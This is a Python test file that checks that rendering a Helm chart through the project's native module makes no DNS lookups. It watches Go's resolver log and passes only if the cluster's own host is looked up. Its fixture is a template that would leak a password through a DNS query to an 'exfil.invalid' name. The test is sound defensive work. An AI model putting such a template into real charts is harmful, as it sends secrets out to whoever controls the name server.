"""A template resolves no names: none leaves the machine in a question to a name server (security.md, row 21)."""

import json
import subprocess
import sys
from pathlib import Path

from tests.helm.writing import CHART_YAML, tgz

RENDERING = """
import json, sys
from pathlib import Path
from bot.helm import native
request = {"do": "render", "release": "shop", "namespace": "n", "values": {"password": "canary"}, "revision": 1}
request |= {"kube_version": "v1.31.0", "api_versions": [], "is_install": True}
print(json.dumps(native.perform(request, Path(sys.argv[1]).read_bytes())["files"]))
access = {"in_cluster": False, "kubeconfig": sys.argv[2], "context": None, "allow_exec": False}
access |= {"proxy": None, "ca_file": None}
try:
    native.perform({"do": "list", "access": access, "as": None, "namespace": "n", "all_namespaces": False}, b"")
except native.Failure:
    pass
"""
"""Renders what would tell a secret by a name, and then resolves the name of a cluster, as it has to."""

TEMPLATE = b'a: {{ getHostByName (printf "%s.exfil.invalid" .Values.password) | quote }}'


def test_no_name_is_asked_for_while_a_chart_is_rendered(tmp_path: Path) -> None:
    kubeconfig = {
        "current-context": "it",
        "contexts": [{"name": "it", "context": {"cluster": "it"}}],
        "clusters": [{"name": "it", "cluster": {"server": "https://cluster.invalid"}}],
    }
    (tmp_path / "kubeconfig").write_text(json.dumps(kubeconfig), encoding="utf-8")
    (tmp_path / "chart.tgz").write_bytes(tgz([CHART_YAML, ("demo/templates/x.yaml", TEMPLATE)]))
    ended = subprocess.run(
        [sys.executable, "-c", RENDERING, str(tmp_path / "chart.tgz"), str(tmp_path / "kubeconfig")],
        env={
            "PATH": "",
            "GODEBUG": "netdns=go+2",
        },  # Go's resolver writes down each name that it is asked for
        capture_output=True,
        text=True,
        timeout=300,
        check=True,
    )
    assert json.loads(ended.stdout) == {"demo/templates/x.yaml": 'a: ""'}
    asked = [line for line in ended.stderr.splitlines() if "hostLookupOrder" in line]
    assert asked
    assert not [line for line in asked if "cluster.invalid" not in line]
